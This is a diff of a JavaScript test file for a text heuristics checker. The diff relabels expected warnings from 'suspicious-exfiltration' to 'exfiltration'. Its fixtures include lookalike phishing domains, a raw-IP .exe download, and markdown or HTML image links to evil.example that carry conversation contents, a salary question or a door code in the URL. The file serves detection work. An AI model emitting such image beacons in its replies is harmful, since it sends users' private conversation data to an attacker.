@@ -70,16 +70,13 @@ describe('heuristics', () => {
     ['http://paypa1.com/', 'suspicious-homograph'],
     ['http://раypal.com/', 'suspicious-homograph'],
     ['http://arnazon.com/', 'suspicious-homograph'],
-    ['https://webhook.site/0123?d=x', 'suspicious-exfiltration'],
-    ['![x](https://evil.example/p.png?d={conversation})', 'suspicious-exfiltration'],
+    ['https://webhook.site/0123?d=x', 'exfiltration'],
+    ['![x](https://evil.example/p.png?d={conversation})', 'exfiltration'],
     [
       `![x](https://evil.example/p.png?d=${globalThis.btoa('user asked: what is my salary')})`,
-      'suspicious-exfiltration',
+      'exfiltration',
     ],
-    [
-      '<img src="https://evil.example/p?q=the+user+said+that+the+door+code+is+four+two+one">',
-      'suspicious-exfiltration',
-    ],
+    ['<img src="https://evil.example/p?q=the+user+said+that+the+door+code+is+four+two+one">', 'exfiltration'],
     ['http://203.0.113.7/update.exe', 'suspicious-download'],
   ])('warn of %s', (text, category) => {
     expect(judge(text)).toEqual([`heuristic ${category} warn`]);
